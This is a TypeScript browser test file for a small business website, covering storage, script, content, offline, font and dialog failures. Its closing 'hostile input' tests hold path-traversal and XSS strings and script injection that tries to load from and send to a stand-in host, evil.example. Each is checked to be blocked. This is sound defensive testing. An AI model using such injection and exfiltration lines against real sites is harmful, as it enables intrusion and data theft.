import type { Page } from 'puppeteer';
import { describe, expect, test } from 'vitest';
import { paths } from '../../src/domain/routes.ts';
import { answerRequests } from '../support/servers/answer-requests.ts';
import { click, press } from '../support/visits/click.ts';
import {
  isHydrated,
  phone,
  readText,
  shareVisit,
  siteUrl,
  startBrowser,
  visit,
  wait,
  waitForText,
  type Visitor,
} from '../support/visitor.ts';

startBrowser();

const documentsAsked = (visitor: Visitor, path: string) =>
  visitor.requests.filter((address) => address === siteUrl + path).length;
const waitForHeading = (page: Page, text: string) =>
  page.waitForFunction((wanted) => document.querySelector('h1')?.textContent === wanted, {}, text);

/** Asks for another page without waiting for it, since it may not come. */
const clickLink = (page: Page, path: string) => press(page, `footer a[href="${path}"]`);

test('where storage is blocked, a choice of cookies and the quiz last for the visit', async () => {
  await visit({}, async ({ page, open, complaints }) => {
    await page.evaluateOnNewDocument(() => {
      for (const name of ['localStorage', 'sessionStorage']) {
        Object.defineProperty(window, name, {
          get() {
            throw new DOMException('Access is denied for this document.', 'SecurityError');
          },
        });
      }
    });
    await open(paths.home);
    await click(page, 'Decline');
    await clickLink(page, paths.getQuote);
    // Home has a quiz too, and the address changes before the page does.
    await page.waitForFunction(
      () =>
        document.title.startsWith('Get a Free Quote') &&
        document.querySelector('h1')?.textContent.startsWith('Get your free'),
    );
    expect(await page.$('[aria-label="Cookie consent"]')).toBeNull();
    await page.$eval('form input[type="radio"]', (option) => (option as HTMLInputElement).click());
    await click(page, 'Next');
    await waitForText(page, 'Step 2 of 5');
    expect(complaints).toEqual([]);
  });
});

describe('a script that a new deployment has replaced', () => {
  const servicesScript = '*/assets/ServicesPage-*.js';
  const partly = 'Part of this page did not load';

  test('makes the page load once in full, and then it is there', async () => {
    await visit({}, async (visitor) => {
      const { page, open } = visitor;
      await open(paths.home);
      await answerRequests(page, servicesScript, () =>
        documentsAsked(visitor, paths.services) === 0 ? { status: 404 } : 'pass',
      );
      await clickLink(page, paths.services);
      await waitForHeading(page, 'Our Services');
      await page.waitForFunction(isHydrated);
      expect(new URL(page.url()).pathname).toBe(paths.services);
      // One to see whether the site answers, one to load the page.
      expect(documentsAsked(visitor, paths.services)).toBe(2);
    });
  });

  test.each([
    ['by a link', paths.home],
    ['directly', paths.services],
  ])('and stays away, opened %s, leaves a page to read, says so and does not reload for ever', async (_how, start) => {
    await visit({}, async (visitor) => {
      const { page } = visitor;
      await answerRequests(page, servicesScript, () => ({ status: 404 }));
      if (start === paths.services) await page.goto(siteUrl + start, { waitUntil: 'load' });
      else {
        await visitor.open(start);
        await clickLink(page, paths.services);
      }
      await waitForText(page, partly);
      expect(await readText(page, 'h1')).toBe('Our Services');
      expect(await page.$$eval('main h3', (titles) => titles.length)).toBeGreaterThan(8);
      const asked = documentsAsked(visitor, paths.services);
      await wait(1000);
      expect(documentsAsked(visitor, paths.services)).toBe(asked);
      expect(asked).toBeLessThanOrEqual(4);
    });
  });

  test('and storage that is blocked together do not reload for ever either', async () => {
    await visit({}, async (visitor) => {
      const { page } = visitor;
      await page.evaluateOnNewDocument(() =>
        Object.defineProperty(window, 'sessionStorage', {
          get() {
            throw new DOMException('Access is denied for this document.', 'SecurityError');
          },
        }),
      );
      await answerRequests(page, servicesScript, () => ({ status: 404 }));
      await page.goto(siteUrl + paths.services, { waitUntil: 'load' });
      await waitForText(page, partly);
      expect(documentsAsked(visitor, paths.services)).toBeLessThanOrEqual(4);
    });
  });
});

describe('generated content that is', () => {
  test.each([
    ['missing', { status: 404 }],
    ['cut off', { status: 200, body: '{"seo":{"title":"Pres' }],
    [
      'a web page',
      { status: 200, headers: { 'Content-Type': 'text/html' }, body: '<!doctype html><title>Hello</title>' },
    ],
    ['of another shape', { status: 200, body: '{"bodyHtml":null}' }],
    ['refused with an error', { status: 500 }],
  ])('%s makes the browser load the page in full, which carries its content', async (_fault, answer) => {
    await visit({}, async ({ page, open }) => {
      await open(paths.areas);
      await answerRequests(page, '*/content/*', () => answer);
      await clickLink(page, paths.town('exeter'));
      await waitForHeading(page, 'Pressure Washing in Exeter');
      expect(await page.title()).toContain('Exeter');
      expect(await page.$eval('main', (main) => main.textContent!.length)).toBeGreaterThan(2000);
    });
  });
});

test('without a connection the visitor keeps the site, a phone number and a page that opens by itself', async () => {
  await visit({ viewport: phone }, async (visitor) => {
    const { page, open } = visitor;
    await open(paths.home);
    await page.setOfflineMode(true);
    await clickLink(page, paths.services);
    await waitForText(page, 'There seems to be no connection.');
    await click(page, 'Load the page again');
    expect(await readText(page, 'h1')).toBe('This page did not load');
    expect(await page.$('header a[href^="tel:"]')).not.toBeNull();
    await page.setOfflineMode(false);
    await waitForHeading(page, 'Our Services');
  });
});

test('while fonts are slow the text is there in a font of the same measure', async () => {
  await visit({}, async ({ page }) => {
    await page.evaluateOnNewDocument(() => {
      const shifts: number[] = [];
      Object.assign(window, { shifts });
      new PerformanceObserver((list) =>
        shifts.push(...list.getEntries().map((entry) => (entry as unknown as { value: number }).value)),
      ).observe({ type: 'layout-shift', buffered: true });
    });
    const { promise: fontsArrive, resolve: release } = Promise.withResolvers<'pass'>();
    await answerRequests(page, '*.woff2', () => fontsArrive);
    await page.goto(siteUrl + paths.town('exeter'), { waitUntil: 'domcontentloaded' });
    await page.waitForFunction(() => performance.getEntriesByName('first-contentful-paint').length > 0);
    expect(await page.evaluate(() => document.fonts.check('1em "Bricolage Grotesque"'))).toBe(false);
    release('pass');
    await page.evaluate(() => document.fonts.ready);
    await page.waitForFunction(() => document.fonts.check('1em "Bricolage Grotesque"'));
    const shift = await page.evaluate(() =>
      (window as unknown as { shifts: number[] }).shifts.reduce((sum, value) => sum + value, 0),
    );
    expect(shift).toBeLessThanOrEqual(0.01);
  });
});

test('a browser without popovers and dialogs shows a service where it stands, and closes it', async () => {
  await visit({ viewport: phone }, async ({ page, open, complaints }) => {
    await page.evaluateOnNewDocument(() => {
      for (const name of ['showPopover', 'hidePopover', 'togglePopover'])
        delete (HTMLElement.prototype as unknown as Record<string, unknown>)[name];
      for (const name of ['showModal', 'show', 'close'])
        delete (HTMLDialogElement.prototype as unknown as Record<string, unknown>)[name];
    });
    await open(paths.services);
    await page.$$eval('main button', (buttons) =>
      buttons.find((button) => button.textContent!.includes('More Info'))!.click(),
    );
    await page.waitForFunction(
      () =>
        document.querySelector('dialog')?.checkVisibility() &&
        document.querySelector('dialog')!.textContent!.includes('Our Process'),
    );
    await page.$eval('dialog button[aria-label="Close dialog"]', (button) => (button as HTMLButtonElement).click());
    await page.waitForFunction(() => !document.querySelector('dialog'));
    await clickLink(page, paths.guarantee);
    await page.waitForFunction(() => location.pathname === '/guarantee' && document.querySelector('h1'));
    expect(complaints).toEqual([]);
  });
});

describe('hostile input', () => {
  const shared = shareVisit({});

  test.each([
    '/devon/%E0%A4%A',
    '/%',
    '/devon/%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '/devon/exeter/..%2f..%2fetc',
    `/${'x'.repeat(1500)}`,
  ])('the address %s shows the error page', async (path) => {
    const { page, complaints } = shared();
    await page.goto(siteUrl + path, { waitUntil: 'load' });
    await waitForHeading(page, 'Page Not Found');
    await wait(500);
    expect(await readText(page, 'h1')).toBe('Page Not Found');
    expect(complaints.filter((text) => !/status of 40[04]/.test(text))).toEqual([]);
  });

  test('markup in the query or the fragment stays text', async () => {
    await visit({}, async ({ page, open, complaints }) => {
      const markup = encodeURI('<img src=x onerror="document.title=`run`"><script>document.title=`run`</script>');
      await open(`/?q=${markup}#${markup}`);
      await open('/#%E0%A4%A');
      await open('/#"]');
      expect(await page.title()).toContain('Tidemark');
      expect(complaints).toEqual([]);
    });
  });

  test('a script that got into a page after all is not run, and nothing is sent elsewhere', async () => {
    await visit({}, async ({ page, open }) => {
      await open(paths.home);
      const outcome = await page.evaluate(async () => {
        const blocked: string[] = [];
        addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
        const refused: string[] = [];
        const attempt = (name: string, action: () => void) => {
          try {
            action();
          } catch {
            refused.push(name);
          }
        };
        const put = (tag: string) => document.body.appendChild(document.createElement(tag));
        attempt('markup', () =>
          document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.ran = true">'),
        );
        attempt('parsed text', () => new DOMParser().parseFromString('<img src="/none.png">', 'text/html'));
        attempt('handler', () => put('img').setAttribute('onerror', 'window.ran = true'));
        attempt('script', () => (put('script').textContent = 'window.ran = true'));
        attempt('foreign script', () => ((put('script') as HTMLScriptElement).src = 'https://evil.example/x.js'));
        attempt('another gate', () =>
          (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes //
            .createPolicy('other', {}),
        );
        const link = put('a') as HTMLAnchorElement;
        link.href = 'javascript:window.ran = true';
        link.click();
        const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
          () => true,
          () => false,
        );
        await new Promise((resolve) => setTimeout(resolve, 500));
        return { ran: 'ran' in window, sent, refused, blocked: [...new Set(blocked)].sort() };
      });
      expect(outcome).toEqual({
        ran: false,
        sent: false,
        refused: ['markup', 'parsed text', 'handler', 'script', 'foreign script', 'another gate'],
        blocked: ['connect-src', 'require-trusted-types-for', 'script-src-elem', 'trusted-types'],
      });
    });
  });
});
